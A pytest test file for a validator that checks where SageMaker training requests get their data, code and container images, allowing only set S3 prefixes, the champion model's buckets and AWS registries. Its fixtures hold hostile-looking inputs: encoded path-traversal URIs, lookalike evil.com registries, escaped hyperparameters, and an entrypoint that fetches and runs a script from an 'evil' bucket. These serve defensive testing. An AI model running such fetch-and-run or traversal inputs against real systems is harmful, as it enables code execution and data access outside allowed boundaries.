"""Where data, code and images of a model come from: whole segments of what the stack allows, however it is written."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestration.domain.aws_images import AWS_ACCOUNTS, is_aws_registry
from orchestration.domain.boundary import Boundary
from orchestration.domain.origins import Origins, champion_buckets, repository

MACHINE = "arn:aws:states:us-east-1:111122223333:stateMachine:loop-retraining"
OWN = "111122223333.dkr.ecr.us-east-1.amazonaws.com"
AWS = "683313688378.dkr.ecr.us-east-1.amazonaws.com"
CHAMPION = {
    "model_data_uri": "s3://team-data/champion/model.tar.gz",
    "image": f"{OWN}/fraud-serving:7",
    "code_uris": ["s3://team-code/sourcedir.tar.gz"],
}


def origins(champion: Any = None, data: tuple[str, ...] = (), images: tuple[str, ...] = ()) -> Origins:
    boundary = Boundary(MACHINE, "", "default", False, "automation", data, images)
    return Origins.of(boundary, "fraud", champion)


PREFIXES = ("s3://bucket", "s3://shared/models/", "s3://exact/a/model.tar.gz", "s3://teams/{model}/")
DATA = {
    "s3://bucket/anything/model.tar.gz": True,
    "s3://bucket-evil/model.tar.gz": False,
    "s3://bucket.evil/model.tar.gz": False,
    "s3://evil/bucket/model.tar.gz": False,
    "S3://bucket/model.tar.gz": False,
    "https://bucket.s3.amazonaws.com/model.tar.gz": False,
    "s3://bucket": True,
    "s3://bucket-evil": False,
    "s3://shared/models/model.tar.gz": True,
    "s3://shared/models//model.tar.gz": True,
    "s3://shared/models-evil/model.tar.gz": False,
    "s3://shared/model.tar.gz": False,
    "s3://shared/models/../evil/model.tar.gz": False,
    "s3://shared/models/./model.tar.gz": False,
    "s3://shared/models/%2e%2e/evil/model.tar.gz": False,
    "s3://shared/models/%252e%252e/evil/model.tar.gz": False,
    "s3://shared/models/..%2fevil/model.tar.gz": False,
    "s3://shared/models%2fmodel.tar.gz": False,
    "s3://shared/models/day%3D1/model.tar.gz": True,
    "s3://shared/models/%25252525252e/model.tar.gz": False,
    "s3://shared/models/day%25253D1/model.tar.gz": True,
    "s3://shared/models/day%2525253D1/model.tar.gz": False,
    "None": False,
    "s3://shared/models/%00/model.tar.gz": False,
    "s3://exact/a/model.tar.gz": True,
    "s3://exact/a/model.tar.gz.evil": False,
    "s3://teams/fraud/model.tar.gz": True,
    "s3://teams/spam/model.tar.gz": False,
    "s3://teams/fraud-2/model.tar.gz": False,
    "s3://automation/runs/fraud/r-1/outputs/model.tar.gz": True,
    "s3://automation/runs/spam/r-1/outputs/model.tar.gz": False,
    "s3://automation/runs/fraud/%2e%2e/spam/model.tar.gz": False,
    "s3://automation/artifacts/fraud/r-1/0123/model.tar.gz": True,
    "s3://automation/artifacts/spam/r-1/0123/model.tar.gz": False,
    "s3://automation/champions/model.tar.gz": True,
    "s3://automation/policies/spam.json": False,
    "s3://automation/evidence/spam/model.tar.gz": False,
    "": False,
}


@pytest.mark.parametrize(("uri", "taken"), DATA.items())
def test_data_is_taken_from_whole_segments_of_a_prefix(uri: str, taken: bool) -> None:
    finding = origins(data=PREFIXES).data_finding(uri, "model_data_url")
    assert (finding is None) is taken
    assert finding is None or "ModelDataPrefixes" in finding


FOLDERS = {
    "s3://bucket": True,
    "s3://bucket/": True,
    "s3://bucket/data": True,
    "s3://shared/models/": True,
    "s3://shared/models/a": True,
    "s3://shared/models": False,
    "s3://shared/": False,
    "s3://teams/fraud/": True,
    "s3://teams/fraud": False,
    "s3://automation/runs/fraud/": True,
    "s3://automation/artifacts/fraud/r-1/0123/net.bin": True,
    "s3://automation/artifacts/spam/r-1/0123/net.bin": False,
    "s3://automation/artifacts/": False,
    "s3://automation/champions/net.bin": False,
    "s3://automation/runs/fraud": False,
    "s3://automation/runs/": False,
    "s3://automation/r": False,
    "s3://automation/": False,
    "s3://automation": False,
}


@pytest.mark.parametrize(("uri", "taken"), FOLDERS.items())
def test_an_address_that_stands_for_whatever_begins_with_it_lies_inside_a_prefix(uri: str, taken: bool) -> None:
    request = {"DataSource": {"S3DataSource": {"S3Uri": uri, "S3DataType": "S3Prefix"}}}
    assert (list(origins(data=PREFIXES).findings(request, "training.request")) == []) is taken


def test_without_prefixes_data_comes_from_the_buckets_of_the_champions_own_container() -> None:
    for uri in (
        "s3://team-data/new/model.tar.gz",
        "s3://team-code/new.tar.gz",
        "s3://automation/runs/fraud/r/m.tar.gz",
    ):
        assert origins(CHAMPION).data_finding(uri, "data") is None
        assert (origins().data_finding(uri, "data") is None) is uri.startswith("s3://automation/")
    assert origins(CHAMPION).data_finding("s3://team-data-2/m.tar.gz", "data")


def test_a_champion_in_the_automation_bucket_opens_no_other_models_outputs() -> None:
    champion = {**CHAMPION, "model_data_uri": "s3://automation/runs/fraud/r-1/outputs/model.tar.gz"}
    assert origins(champion).data_finding("s3://automation/runs/spam/r-1/outputs/model.tar.gz", "data")


def test_prefixes_of_the_stack_are_all_there_is_beside_what_the_champion_has_already() -> None:
    given_ = origins(CHAMPION, data=("s3://models",), images=(f"{OWN}/team",))
    assert given_.data_finding("s3://team-data/model.tar.gz", "data")
    assert given_.image_finding(f"{OWN}/fraud-serving:8", "image")
    assert given_.image_finding(f"{AWS}/sagemaker-xgboost:1.7-1", "image")
    kept = {
        "Image": CHAMPION["image"],
        "ModelDataUrl": CHAMPION["model_data_uri"],
        "Environment": {"CODE": "s3://team-code/sourcedir.tar.gz"},
    }
    assert list(given_.findings(kept, "CreateModel")) == []


IMAGES = {
    f"{OWN}/fraud-serving:8": True,
    f"{OWN}/fraud-serving@sha256:{'0' * 64}": True,
    f"{OWN}/fraud-serving-evil:8": False,
    f"{OWN}/fraud-serving/evil:8": True,
    f"{OWN}/spam-serving:1": False,
    f"{OWN}/../fraud-serving:8": False,
    f"{OWN}/fraud-serving/../spam-serving:8": False,
    f"{AWS}/sagemaker-scikit-learn:1.2-1-cpu-py3": True,
    "763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch-inference:2.1": True,
    "999999999999.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1": False,
    f"{AWS}.evil.com/sagemaker-xgboost:1": False,
    f"evil.com/{AWS}/sagemaker-xgboost:1": False,
    "683313688378.evil.us-east-1.amazonaws.com/x:1": False,
    "docker.io/library/evil:1": False,
    f"{OWN}/fraud-serving%2f..:8": False,
    f"{OWN}/fraud serving:8": False,
    AWS: False,
    "": False,
}


@pytest.mark.parametrize(("image", "run"), IMAGES.items())
def test_the_champions_repository_and_those_of_aws_are_run_and_no_other(image: str, run: bool) -> None:
    finding = origins(CHAMPION).image_finding(image, "image")
    assert (finding is None) is run
    assert finding is None or "ImagePrefixes" in finding


def test_a_champion_that_serves_from_a_copy_opens_where_it_was_copied_from() -> None:
    copy, source = "s3://automation/artifacts/fraud/r-1/0123/model.tar.gz", "s3://team-data/r-1/model.tar.gz"
    champion = {**CHAMPION, "model_data_uri": copy, "copied_from": [source]}
    assert champion_buckets(champion) == ("automation", "team-data", "team-code")
    assert origins(champion).data_finding("s3://team-data/r-2/model.tar.gz", "data") is None
    assert origins(champion, data=("s3://elsewhere",)).data_finding(source, "data") is None
    assert origins({**champion, "copied_from": []}).data_finding(source, "data")


def test_a_champion_that_says_nothing_of_a_bucket_or_an_image_opens_none() -> None:
    silent = {"model_data_uri": None, "image": None, "code_uris": ["https://evil/x", "s3://bad"]}
    assert champion_buckets(silent) == ()
    assert origins(silent).data_finding("None", "data")
    assert origins(silent).image_finding("None", "image")


def test_without_a_champion_only_images_of_aws_are_run() -> None:
    assert origins().image_finding(f"{AWS}/sagemaker-xgboost:1.7-1", "image") is None
    assert origins().image_finding(f"{OWN}/fraud-serving:7", "image")


def test_a_registry_of_aws_is_known_by_the_whole_host() -> None:
    assert all(len(account) == 12 for account in AWS_ACCOUNTS)
    for host in (AWS, AWS.replace(".ecr.", ".ecr-fips."), "451049120500.dkr.ecr.cn-northwest-1.amazonaws.com.cn"):
        assert is_aws_registry(host)
    for host in (f"x{AWS}", f"{AWS}x", OWN, ""):
        assert not is_aws_registry(host)


def test_a_repository_has_neither_tag_nor_digest() -> None:
    assert repository("localhost:5000/team/image:1@sha256:0") == "localhost:5000/team/image"
    assert repository("image:1") == "image"
    for name in ("a//b", "/a", "a/", "a/./b", "a b", "a\n", "x" * 600):
        assert repository(name) is None


REQUEST: dict[str, Any] = {
    "AlgorithmSpecification": {"TrainingImage": f"{AWS}/sagemaker-xgboost:1.7-1", "TrainingInputMode": "File"},
    "InputDataConfig": [{"DataSource": {"S3DataSource": {"S3Uri": "s3://team-data/training/"}}}],
    "HyperParameters": {"sagemaker_submit_directory": '"s3://team-code/sourcedir.tar.gz"'},
}


def test_a_request_of_ones_own_has_no_finding() -> None:
    assert list(origins(CHAMPION).findings(REQUEST, "training.request")) == []


FOREIGN: dict[str, Any] = {
    "AlgorithmSpecification": {"TrainingImage": "evil.com/train:1"},
    "InputDataConfig": [{"DataSource": {"S3DataSource": {"S3Uri": "s3://payroll/"}}}],
    "HyperParameters": {"sagemaker_submit_directory": '"s3://evil/code.tar.gz"'},
    "CheckpointConfig": {"S3Uri": "s3://payroll/checkpoints"},
    "DebugRuleConfigurations": [{"RuleConfigurationName": "x", "RuleEvaluatorImage": "evil.com/rule:1"}],
    "TensorBoardOutputConfig": {"S3OutputPath": "s3://payroll/board"},
    "Environment": {"CODE": "S3://evil/code"},
    "ContainerEntrypoint": ["sh", "-c", "aws s3 cp s3://evil/run.sh . && sh run.sh"],
    "ModelDataUrl": "https://s3.amazonaws.com/evil/model.tar.gz",
    "MlflowConfig": {"MlflowResourceArn": "arn:aws:sagemaker:us-east-1:111122223333:mlflow-tracking-server/payroll"},
    "TrainingImageConfig": {"CredentialsProviderArn": "arn:aws:lambda:us-east-1:111122223333:function:payroll"},
}


@pytest.mark.parametrize(
    "hidden",
    [
        '"s3:\\/\\/evil\\/code.tar.gz"',
        '"\\u0073\\u0033://evil/code.tar.gz"',
        '{"code": "s3\\u003a//evil/code.tar.gz"}',
        '"{\\"code\\": \\"s3:\\\\/\\\\/evil/code.tar.gz\\"}"',
        '"s3://team-code/x\\/..\\/..\\/evil"',
    ],
)
def test_a_hyperparameter_is_read_as_json_too(hidden: str) -> None:
    """SageMaker's training toolkit reads each as JSON, so an escape would hide where the code comes from."""
    found = list(origins(CHAMPION).findings({"HyperParameters": {"sagemaker_submit_directory": hidden}}, "request"))
    assert found


def test_a_request_may_use_keys_the_role_that_is_passed_and_what_aws_shares() -> None:
    """IAM pins the role, a key's policy says who may use it, and packages are asked for their tag."""
    shared = {
        "RoleArn": "arn:aws:iam::111122223333:role/training",
        "VolumeKmsKeyId": "arn:aws:kms:us-east-1:111122223333:key/1",
        "BaseModelArn": "arn:aws:sagemaker:us-east-1:aws:hub-content/SageMakerPublicHub/Model/x/1",
        "ModelPackageGroupArn": "arn:aws:sagemaker:us-east-1:111122223333:model-package-group/spam",
    }
    assert list(origins().findings(shared, "training.request")) == []


@pytest.mark.threat("foreign-image")
@pytest.mark.parametrize("field", FOREIGN)
def test_whatever_part_of_a_request_names_something_foreign_is_found(field: str) -> None:
    (finding,) = origins(CHAMPION).findings({**REQUEST, field: FOREIGN[field]}, "training.request")
    assert finding.startswith("training.request: ")


@pytest.mark.parametrize("field", ["ModelDataUrl", "S3Uri", "S3OutputPath", "ManifestS3Uri"])
def test_data_is_named_in_these_fields_by_any_scheme(field: str) -> None:
    assert len(list(origins().findings({field: "https://s3.amazonaws.com/evil/x"}, "request"))) == 1


@pytest.mark.parametrize("field", ["Image", "ImageUri", "TrainingImage", "RuleEvaluatorImage"])
def test_images_are_named_in_these_fields(field: str) -> None:
    assert len(list(origins().findings({field: "evil"}, "request"))) == 1


def test_what_is_no_text_names_nothing() -> None:
    odd = {"Image": 5, "S3Uri": None, "TrainingImage": [True, {}], "FileSystemId": 7}
    assert list(origins().findings(odd, "request")) == []


def test_only_a_models_own_data_may_be_just_the_object_that_is_allowed() -> None:
    uri = "s3://exact/a/model.tar.gz"
    assert list(origins(data=PREFIXES).findings({"ModelDataUrl": uri}, "request")) == []
    assert len(list(origins(data=PREFIXES).findings({"S3Uri": uri}, "request"))) == 1


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=40) | st.sampled_from(list(DATA)),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from([*FOREIGN, "Image", "S3Uri"]), inner),
    max_leaves=20,
)


@given(JSON)
def test_whatever_a_request_holds_is_looked_at_without_an_error(request: Any) -> None:
    for finding in origins(CHAMPION).findings(request, "training.request"):
        assert finding.isprintable()
